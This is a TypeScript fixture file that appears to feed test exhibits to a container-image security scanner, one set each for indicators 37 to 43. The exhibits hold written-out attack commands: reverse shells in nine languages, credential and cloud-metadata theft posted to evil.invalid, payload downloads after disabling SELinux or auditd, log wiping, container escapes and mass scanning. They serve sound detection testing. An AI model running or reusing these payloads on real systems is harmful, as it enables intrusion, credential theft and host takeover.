import type { Exhibit } from './exhibit.ts';

/* Indicators 37 to 43. Inert: reserved hosts, and nothing here is ever run. */

type Row = readonly [name: string, path: string, text: string, line?: number];

function found(indicator: number, rule: string, tier: 'block' | 'review', rows: readonly Row[]): Exhibit[] {
  return rows.map(([name, path, data, line]) => ({
    indicator,
    name,
    layers: [{ [path]: { data, mode: 0o755 } }],
    expect: { rule, tier, path, layer: 1, ...(line !== undefined && { line }) },
  }));
}

const sh = (text: string): string => `#!/bin/sh\n${text}\n`;

export const SCRIPTS: readonly Exhibit[] = [
  ...found(37, 'scripts/reverse-shell', 'block', [
    ['bash over /dev/tcp', 'opt/x.sh', sh('bash -i >& /dev/tcp/evil.invalid/4444 0>&1'), 2],
    ['nc -e', 'opt/x.sh', sh('nc evil.invalid 4444 -e /bin/sh'), 2],
    [
      'mkfifo with nc',
      'opt/x.sh',
      sh('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc evil.invalid 4444 >/tmp/f'),
      2,
    ],
    [
      'Python',
      'app/x.py',
      'import socket,subprocess,os\ns=socket.socket()\ns.connect(("evil.invalid",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])\n',
    ],
    [
      'Perl',
      'app/x.pl',
      'use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton("evil.invalid")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\n',
    ],
    ['PHP', 'app/x.php', '<?php $s=fsockopen("evil.invalid",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>\n'],
    [
      'Ruby',
      'app/x.rb',
      'require "socket";f=TCPSocket.open("evil.invalid",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\n',
    ],
    [
      'Node',
      'app/x.js',
      'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"evil.invalid",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});\n',
    ],
    [
      'awk',
      'app/x.awk',
      'BEGIN{s="/inet/tcp/0/evil.invalid/4444";while(42){do{printf "> " |& s;s |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c);}}while(c!="exit")}}\n',
    ],
  ]),
  {
    indicator: 37,
    name: 'one that a later layer deletes',
    layers: [{ 'opt/x.sh': sh('bash -i >& /dev/tcp/evil.invalid/4444 0>&1') }, { 'opt/x.sh': null }],
    expect: {
      rule: 'scripts/reverse-shell',
      tier: 'block',
      path: 'opt/x.sh',
      layer: 1,
      line: 2,
      hidden: 'deleted',
    },
  },
  ...found(38, 'scripts/rival-killer', 'block', [
    ['killing rivals by name', 'opt/x.sh', sh('pkill -f kinsing'), 2],
    ['killing rivals by pool', 'opt/x.sh', sh('pkill -f pool.minexmr.com'), 2],
  ]),
  ...found(39, 'scripts/defense-disabling', 'block', [
    [
      'SELinux off and a download',
      'opt/x.sh',
      sh('setenforce 0\ncurl -s http://evil.invalid/m -o /tmp/m; chmod +x /tmp/m; /tmp/m'),
    ],
    [
      'auditd stopped and a download',
      'opt/x.sh',
      sh('systemctl stop auditd\nwget http://evil.invalid/a.sh -O /tmp/a.sh'),
    ],
  ]),
  ...found(40, 'scripts/cover-up', 'review', [
    ['a file made immutable', 'opt/x.sh', sh('chattr +i /etc/cron.d/job'), 2],
    ['history switched off', 'opt/x.sh', sh('unset HISTFILE'), 2],
    ['logs wiped', 'opt/x.sh', sh('history -c; echo > /var/log/wtmp'), 2],
  ]),
  ...found(41, 'scripts/credential-theft', 'block', [
    ['a credential file posted', 'opt/x.sh', sh('curl -F f=@/root/.aws/credentials http://evil.invalid/u')],
    [
      'cloud metadata posted',
      'opt/x.sh',
      sh(
        'C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role)\ncurl -X POST -d "$C" http://evil.invalid',
      ),
    ],
  ]),
  ...found(42, 'scripts/container-escape', 'block', [
    [
      'the engine socket',
      'opt/x.sh',
      sh('docker -H unix:///var/run/docker.sock run -v /:/host alpine chroot /host'),
    ],
    ['nsenter', 'opt/x.sh', sh('nsenter --target 1 --mount --uts --pid -- bash -c id')],
    ['release_agent', 'opt/x.sh', sh('echo "$host_path/cmd" > /tmp/cgrp/release_agent')],
    ['core_pattern', 'opt/x.sh', sh('echo "|$overlay/x.sh" > /proc/sys/kernel/core_pattern')],
  ]),
  ...found(43, 'scripts/mass-scanner', 'review', [
    ['engine ports', 'opt/x.sh', sh('masscan 198.51.100.0/24 -p 2375,2376 --rate 1000')],
    [
      'a loop over octets',
      'opt/x.sh',
      sh('for i in $(seq 1 254); do nc -z -w1 10.0.0.$i 6379 && echo $i; done'),
    ],
  ]),
];
